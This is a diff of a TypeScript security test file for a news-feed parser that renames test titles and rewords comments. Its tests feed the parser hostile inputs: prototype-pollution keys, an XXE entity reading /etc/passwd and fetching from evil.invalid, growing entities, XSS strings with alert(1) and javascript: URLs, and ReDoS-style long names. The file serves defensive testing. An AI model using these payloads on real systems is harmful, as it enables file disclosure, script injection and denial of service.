@@ -1,4 +1,4 @@
-/** Attacks through documents that need no page. SECURITY.md lists them. */
+/** Attacks through documents, without a page. SECURITY.md lists them. */
 import { expect } from 'chai';
 import { parseNews } from '../../src/loading/parse-news.js';
 import type { NewsFeed } from '../../src/model/news.js';
@@ -28,12 +28,12 @@ const expectCleanPrototypes = (): void => {
   expect(({} as Record<string, unknown>)['polluted']).to.equal(undefined);
 };
 
-describe('attacks through documents', () => {
+describe('attacks through documents fail:', () => {
   afterEach(expectCleanPrototypes);
 
   const NAMES = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf'];
 
-  it('members of JSON with names of object members', async () => {
+  it('JSON members named like members of `Object.prototype`', async () => {
     const evil = NAMES.map((name) => `"${name}":{"polluted":1,"value":"x"}`).join();
     const feed = await read(
       `{"version":"https://jsonfeed.org/version/1.1",${evil},"items":[{"id":"1","title":"Lock",${evil},"_news":{${evil}}}]}`,
@@ -41,7 +41,7 @@ describe('attacks through documents', () => {
     expect(feed.items.map(({ versions }) => versions[0].headline)).to.deep.equal(['Lock']);
   });
 
-  it('languages with names of object members', async () => {
+  it('languages named like members of `Object.prototype`', async () => {
     const map = Object.fromEntries(NAMES.slice(1).map((name) => [name, 'https://quay.invalid/x']));
     const json = JSON.stringify([post({ translations: map })]).replace('"constructor"', '"__proto__"');
     expect((await read(json)).items[0]?.versions.length).to.equal(1);
@@ -49,20 +49,20 @@ describe('attacks through documents', () => {
     expect((await read(note)).items[0]?.versions.some(({ language }) => language === 'en')).to.equal(true);
   });
 
-  it('elements, attributes and prefixes of XML with names of object members', async () => {
+  it('XML elements, attributes and prefixes named like members of `Object.prototype`', async () => {
     const tags = NAMES.map((name) => `<${name} ${name}="x"/><${name}:a xmlns:${name}="y"/>`).join('');
     const feed = await read(rss(`${tags}<item><title>Lock</title>${tags}</item>`));
     expect(feed.items[0]?.versions[0].headline).to.equal('Lock');
   });
 
-  it('entities that grow, and entities from elsewhere', async () => {
+  it('entities that grow, and external entities', async () => {
     const feed = await read(
       `<!DOCTYPE rss [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;"><!ENTITY c SYSTEM "file:///etc/passwd"><!ENTITY % d SYSTEM "https://evil.invalid/d">%d;]>${rss('<item><title>&b;-&c;</title></item>')}`,
     );
     expect(feed.items[0]?.versions[0].headline).to.equal('&b;-&c;');
   });
 
-  it('a list that refers to itself, in data of a page', async () => {
+  it('data that contain themselves', async () => {
     const item: Record<string, unknown> = { '@type': 'NewsArticle', '@id': '#a', headline: 'Lock', inLanguage: 'en' };
     item['workTranslation'] = [item, { '@id': '#a' }, { '@type': 'NewsArticle', '@id': '#b', translationOfWork: item }];
     const error = await read({ '@context': 'https://schema.org', ...item }).catch((reason: unknown) => reason);
@@ -71,7 +71,7 @@ describe('attacks through documents', () => {
     );
   });
 
-  it('articles that are translations of each other in a circle', async () => {
+  it('translations in a circle', async () => {
     const article = (id: string, next: string): object => ({
       '@type': 'NewsArticle',
       '@id': `https://quay.invalid/${id}`,
@@ -103,19 +103,19 @@ describe('attacks through documents', () => {
     expect((await parseNews(JSON.stringify([post({})]), options)).nextUrl).to.equal(undefined);
   });
 
-  it('code before a document is data', async () => {
+  it('code before a document', async () => {
     const feed = await read(
       `alert(1);fetch("https://evil.invalid/")\n${JSON.stringify(jsonFeed({ id: '1', title: 'Lock' }))}`,
     );
     expect(feed.items[0]?.versions[0].headline).to.equal('Lock');
   });
 
-  it('a document behind a hundred thousand characters is not searched for', async () => {
+  it('a document behind 100,000 characters', async () => {
     const error = await read(`${'x\n'.repeat(50_000)}${rss('')}`).catch((reason: unknown) => reason);
     expect(error).to.have.property('code', 'unsupported-format');
   });
 
-  it('halves of characters, written as references', async () => {
+  it('halves of characters as references', async () => {
     const feed = await read(rss('<item><title>a&#xD83D;b&#xDEA2;&#xD83D;</title></item>'));
     expect(feed.items[0]?.versions[0].headline).to.equal('a\ufffdb\ufffd\ufffd');
   });
@@ -124,7 +124,7 @@ describe('attacks through documents', () => {
     const feed = await read(
       jsonFeed({ id: '1', title: '&#60;img src=x onerror=alert(1)&#62;' }, { id: '2', title: '&#38;#60;b&#38;#62;' }),
     );
-    // Text, which templates insert as text. Decoded once.
+    // Decoded once. Templates insert the result as text.
     expect(feed.items.map(({ versions }) => versions[0].headline)).to.deep.equal([
       '<img src=x onerror=alert(1)>',
       '&#60;b&#62;',
@@ -136,7 +136,7 @@ describe('attacks through documents', () => {
     expect(feed.items[0]?.versions[0].headline?.length).to.equal(10_000);
   });
 
-  it('a name that would make the patterns for names slow', async () => {
+  it('a name that would slow down the patterns for names', async () => {
     const name = 'a'.repeat(100_000);
     const feed = await read(
       `<feed xmlns="http://www.w3.org/2005/Atom"><entry><id>1</id><title>L</title><author><name>${name}</name></author></entry></feed>`,
@@ -144,14 +144,14 @@ describe('attacks through documents', () => {
     expect(feed.items[0]?.authors[0]?.name.length).to.equal(500);
   });
 
-  it('a list with gaps of four thousand million', async () => {
+  it('a list with a gap of four thousand million', async () => {
     const feed = await read({ ...jsonFeed(), items: { 4294967295: { id: '1', title: 'Lock' } } });
     expect(feed.items.length).to.equal(1);
   });
 
-  it('shortcodes that hide a tag from one reader', async () => {
+  it('shortcodes that split a tag', async () => {
     const feed = await read([post({ content: { rendered: '<scr[vc_row]ipt>alert(1)</scr[/vc_row]ipt>' } })]);
-    // The sanitiser reads what is left, so nothing is checked before it is joined.
+    // Shortcodes are removed before the sanitiser reads the markup.
     expect(feed.items[0]?.versions[0].body).to.deep.equal({ html: '<script>alert(1)</script>' });
   });
 
@@ -226,7 +226,7 @@ describe('attacks through documents', () => {
     '<b>',
     '',
   ]) {
-    it(`a time zone that is none: ${JSON.stringify(zone).slice(0, 24)}`, async () => {
+    it(`an invalid time zone: ${JSON.stringify(zone).slice(0, 24)}`, async () => {
       const [item] = (await read(eventFeed({ start: '2026-01-01T10:00', time_zone: zone }))).items;
       expect(isTimeZone(item!.event!.timeZone)).to.equal(false);
     });
@@ -256,15 +256,15 @@ describe('attacks through documents', () => {
     }
   });
 
-  it('time zones in thousands of spellings are not kept', () => {
+  it('time zones in thousands of spellings', () => {
     const { DateTimeFormat } = Intl;
     const first = timeFormat('Europe/Brussels');
     for (let id = 0; id < 500; id += 1) timeFormat(`Nowhere/Z${id}`);
-    // The cache was emptied on the way, so it cannot grow without end.
+    // The cache was emptied meanwhile, so it cannot grow without limit.
     expect(timeFormat('Europe/Brussels')).to.be.instanceOf(DateTimeFormat).and.not.equal(first);
   });
 
-  it('recordings without end, with hostile addresses and types', async () => {
+  it('recordings with hostile addresses, types and durations', async () => {
     const attachments = [
       ...[
         'javascript:alert(1)',
